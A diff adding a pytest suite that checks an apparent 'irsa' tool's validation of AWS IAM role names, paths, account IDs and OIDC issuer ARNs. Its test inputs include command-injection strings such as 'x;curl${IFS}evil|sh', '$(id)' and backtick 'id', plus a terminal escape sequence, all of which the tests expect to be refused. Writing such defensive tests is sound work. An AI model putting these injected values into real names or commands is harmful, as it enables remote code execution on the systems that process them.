@@ -1,0 +1,137 @@
+"""What IAM takes in names, paths and ARNs: ASCII, and few signs of it.
+
+Source: https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_iam-quotas.html ("IAM name requirements").
+"""
+
+import string
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from irsa.rules.arns import check_issuer, parse_iam_arn
+from irsa.rules.mistakes import Mistake
+from irsa.rules.names import RULES, check_name
+
+ACCOUNT = "111122223333"
+ALLOWED = string.ascii_letters + string.digits + "+=,.@_-"
+
+
+def refused(arn: str, kind: str) -> bool:
+    try:
+        parse_iam_arn(arn, kind)
+    except Mistake:
+        return True
+    return False
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "x;curl${IFS}evil|sh",
+        "日本",
+        "ä",
+        "x" * 65,
+        "x" * 300,
+        "a:b",
+        "a\n",
+        "a\nb",
+        "a\x1b[2J",
+        "a`id`",
+        "$(id)",
+        "a'b",
+        'a"b',
+        "a&b",
+        "/" + "p" * 511 + "/a",
+    ],
+)
+def test_role_names_that_iam_does_not_have(name: str) -> None:
+    """The attack: an ARN whose role's name runs a command, or drives a terminal, wherever it is printed."""
+    assert refused(f"arn:aws:iam::{ACCOUNT}:role/{name}", "role")
+
+
+@pytest.mark.parametrize("account", ["\u0661" * 12, "\uff11" * 12, f"{ACCOUNT[:-1]}\u0663", f"{ACCOUNT}\n"])
+def test_accounts_in_other_digits(account: str) -> None:
+    r"""The attack: digits of other scripts, which `\d` takes for digits, and a line break after the last one."""
+    for kind in ("role", "policy", "oidc-provider"):
+        assert refused(f"arn:aws:iam::{account}:{kind}/x", kind)
+
+
+@pytest.mark.parametrize(
+    "resource", ["x;curl${IFS}evil|sh", "日本.example", "a b", "a\n", "$(id)", "a`id`", "a//b", "?a"]
+)
+def test_issuers_that_are_no_urls(resource: str) -> None:
+    """The attack: an issuer that runs a command in `curl ISSUER/.well-known/openid-configuration`."""
+    assert refused(f"arn:aws:iam::{ACCOUNT}:oidc-provider/{resource}", "oidc-provider")
+    with pytest.raises(Mistake):
+        check_issuer(f"https://{resource}")
+
+
+@pytest.mark.parametrize(
+    "host_path",
+    [
+        "oidc.eks.us-west-2.amazonaws.com/id/EXAMPLED539D4633E53DE1B71EXAMPLE",
+        "oidc-eks.eusc-de-east-1.api.amazonwebservices.eu/id/0",
+        "s3-us-west-2.amazonaws.com/my_bucket.oidc~1",
+        "keycloak.example:8443/realms/my%20realm",
+        "token.actions.githubusercontent.com",
+    ],
+)
+def test_issuers_of_every_kind_of_cluster(host_path: str) -> None:
+    """Protects EKS's issuers, and those that people host themselves, in a bucket or on a server."""
+    assert not refused(f"arn:aws:iam::{ACCOUNT}:oidc-provider/{host_path}", "oidc-provider")
+    assert check_issuer(f"https://{host_path}") == f"https://{host_path}"
+
+
+@given(st.text(st.characters(max_codepoint=0x3000, exclude_characters="/"), min_size=1, max_size=70))
+@example("a\n")
+@example("x" * 65)
+def test_a_role_name_in_an_arn_is_a_role_name(name: str) -> None:
+    """Protects one rule behind two arguments: a name is good in an ARN when IAM takes it for a role, and only then."""
+    legal = len(name) <= 64 and set(name) <= set(ALLOWED)
+
+    assert refused(f"arn:aws:iam::{ACCOUNT}:role/{name}", "role") is not legal
+    if legal:
+        assert check_name(name, RULES["role"]) == name
+    else:
+        with pytest.raises(Mistake):
+            check_name(name, RULES["role"])
+
+
+@given(st.text(st.sampled_from(f"{ALLOWED}/*$(; ä\n"), max_size=12).map(lambda text: f"/{text}/"))
+@example("/a*b$(id)/")
+@example("/team/\n")
+@example("//")
+def test_a_path_that_is_taken_makes_an_arn_that_is_read(path: str) -> None:
+    """The attack: the role path `/a*b$(id)/` was taken, and `irsa verify` then refused the ARN of that very role."""
+    for kind in ("role", "policy"):
+        try:
+            check_name(path, RULES[f"{kind} path"])
+        except Mistake:
+            continue
+        assert not refused(f"arn:aws:iam::{ACCOUNT}:{kind}{path}my-name", kind)
+        assert set(path) <= set(f"{ALLOWED}/")
+
+
+@pytest.mark.parametrize(
+    ("arn", "kind"),
+    [
+        ("arn:aws:iam::aws:policy/aws-service-role/AmazonEKSServiceRolePolicy", "policy"),
+        ("arn:aws:iam::111122223333:role/aws-reserved/sso.amazonaws.com/eu-west-1/AWSReservedSSO_Admin_0", "role"),
+        (f"arn:aws:iam::111122223333:role/{'p' * 510}/{'x' * 64}", "role"),
+        (f"arn:aws:iam::111122223333:policy/{'x' * 128}", "policy"),
+        ("arn:aws:iam::111122223333:role/a//b", "role"),
+    ],
+)
+def test_arns_of_aws_itself_and_at_the_edges(arn: str, kind: str) -> None:
+    """Protects AWS's own paths, and names and paths as long as IAM allows."""
+    assert not refused(arn, kind)
+
+
+@pytest.mark.parametrize("kind", sorted(RULES))
+def test_no_rule_takes_a_line_break_at_the_end(kind: str) -> None:
+    r"""The attack: `$` in a pattern lets one line break pass, which begins a line of its own wherever it is printed."""
+    for name in ("a", "/a/", "us-west-2", "aws:a"):
+        if kind not in ("description", "audience"):
+            with pytest.raises(Mistake):
+                check_name(f"{name}\n", RULES[kind])
